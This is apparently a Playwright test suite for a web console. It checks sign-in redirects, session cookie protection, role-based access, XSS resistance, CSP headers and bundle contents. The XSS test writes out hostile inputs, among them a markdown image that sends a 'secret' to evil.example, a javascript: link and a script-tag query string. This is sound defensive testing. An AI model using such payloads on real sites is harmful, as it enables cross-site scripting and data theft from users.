import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect, signIn, test, user } from "./server";
import { fill, HOSTILE, hostile } from "./shop";

test.use({ of: "session" });

test("a link leads through the door to where it pointed", async ({ page, server }) => {
  await page.goto(`${server.url}/ui/runs?status=failed&since=24h`);
  await expect(page).toHaveURL(/\/sign-in\?then=/);
  await page.getByLabel("Name").fill(server.management.username);
  await page.getByLabel("Password").fill(server.management.password);
  await page.getByRole("button", { name: "Sign in" }).click();

  await expect(page).toHaveURL(`${server.url}/ui/runs?status=failed&since=24h`);
  await expect(page.getByLabel("Status")).toHaveValue("failed");
});

test("whoever signs out is led to the door, and stays outside", async ({ signedIn: page, server }) => {
  await page.goto(`${server.url}/ui/runs`);
  await page.getByRole("button", { name: /^Account of/ }).click();
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page).toHaveURL(/\/sign-in/);

  await page.goto(`${server.url}/ui/runs`);
  await expect(page).toHaveURL(/\/sign-in\?then=/);
});

test("no script can read the session", async ({ signedIn: page, context }) => {
  expect(await page.evaluate(() => document.cookie)).toBe("");
  const kept = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]));
  const [cookie] = await context.cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Lax" });
  expect(kept).not.toContain(cookie?.value);
});

test("nobody is offered what he may not do", async ({ page, browser, server }) => {
  await signIn(page, server, await user(server, "olga", "operator"), "/ui/agents");
  await page.getByRole("link", { name: "Demo", exact: true }).click();
  await expect(page.getByLabel("Write to demo")).toBeEnabled();
  await expect(page.getByRole("link", { name: "Definition" })).toHaveCount(0);
  await page.goto(`${server.url}/ui/agents`);
  await expect(page.getByRole("link", { name: "New agent" })).toHaveCount(0);

  // Whoever finds the address all the same is told what he lacks.
  const other = await (await browser.newContext()).newPage();
  await signIn(other, server, await user(server, "vera", "viewer"), "/ui/agents");
  await other.getByRole("link", { name: "Demo", exact: true }).click();
  await expect(other.getByLabel("Write to demo")).toBeDisabled();
  await other.goto(`${server.url}/ui/agents/new`);
  await other.getByLabel("Display name").fill("Evil");
  await other.getByLabel("Name", { exact: true }).fill("evil");
  await other.getByLabel("Instructions").fill("x");
  await other.getByRole("button", { name: /Save agent/ }).click();
  await expect(other.getByRole("alert")).toContainText("agent.write");
});

test("what is stored is text, whatever is in it", async ({ signedIn: page, server }) => {
  test.setTimeout(180_000);
  const runs = await fill(server.admin);
  await server.admin("PUT", "/agents/definitions/demo", { display_name: HOSTILE, description: HOSTILE });
  for (const path of [
    ...(await hostile(server)),
    "/ui/agents/demo",
    "/ui/runs?user=%3Cscript%3E",
    `/ui/runs/${runs.told}`,
    `/ui/runs/${runs.failed}?tab=events`,
    `/ui/approvals`,
  ]) {
    await page.goto(server.url + path);
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    await expect(page.getByLabel("Loading")).toHaveCount(0);
    expect(await page.evaluate(() => "pwned" in globalThis), path).toBe(false);
    expect(await page.locator("main img, main script, main iframe").count(), path).toBe(0);
  }
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox", { name: "Find or do" }).fill("<img");
  await expect(page.getByRole("option").first()).toContainText("<img");
  expect(await page.locator("dialog img, dialog script").count()).toBe(0);
  await page.goto(`${server.url}/ui/agents/short`);
  await page
    .getByLabel("Write to short")
    .fill(`![x](https://evil.example/?q=secret) [a](javascript:alert(1)) ${HOSTILE}`);
  await page.keyboard.press("Enter");
  await expect(page.getByText(/^You said/)).toBeVisible();
  expect(await page.locator("main img, main a[href^='javascript']").count()).toBe(0);
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
});

test("pages come with a strict policy, and files are kept for ever", async ({ server }) => {
  const index = await fetch(`${server.url}/ui/runs/deep/link`);
  const policy = index.headers.get("content-security-policy") ?? "";
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain("unsafe");
  const html = await index.text();
  expect(html).not.toMatch(/<script(?![^>]*src=)/);

  const script = /src="(\/ui\/assets\/[^"]+)"/.exec(html)?.[1] ?? "";
  const asset = await fetch(server.url + script, { headers: { "accept-encoding": "br" } });
  expect(asset.headers.get("cache-control")).toContain("immutable");
  expect(asset.headers.get("content-encoding")).toBe("br");
  const again = await fetch(`${server.url}/ui/`, {
    headers: { "if-none-match": index.headers.get("etag") ?? "" },
  });
  expect(again.status).toBe(304);
});

test("the first page has at most 150 kB of script", async ({ page, server }) => {
  const loaded: string[] = [];
  page.on("request", (it) => {
    if (it.resourceType() === "script") loaded.push(new URL(it.url()).pathname.replace("/ui/", ""));
  });
  await signIn(page, server, server.management, "/ui/runs");
  await page.waitForLoadState("networkidle");
  const sizes = [...new Set(loaded)].map(
    (it) => gzipSync(readFileSync(join("dist", it)), { level: 9 }).length,
  );
  expect(sizes.reduce((sum, it) => sum + it, 0)).toBeLessThan(150_000);
});

test("all that is built is ours: no address of others in it", () => {
  const files = readdirSync("dist", { recursive: true, encoding: "utf8" }).filter((it) =>
    /\.(js|css|html)$/.test(it),
  );
  for (const file of files) {
    const text = readFileSync(join("dist", file), "utf8");
    const hosts = [...text.matchAll(/https?:\/\/([a-z0-9.-]+\.[a-z]{2,})/g)].map((it) => it[1] ?? "");
    const known = ["www.w3.org", "react.dev", "tanstack.com", "api.example.com", "json-schema.org"];
    expect(
      hosts.filter((it) => !known.includes(it)),
      file,
    ).toEqual([]);
  }
});
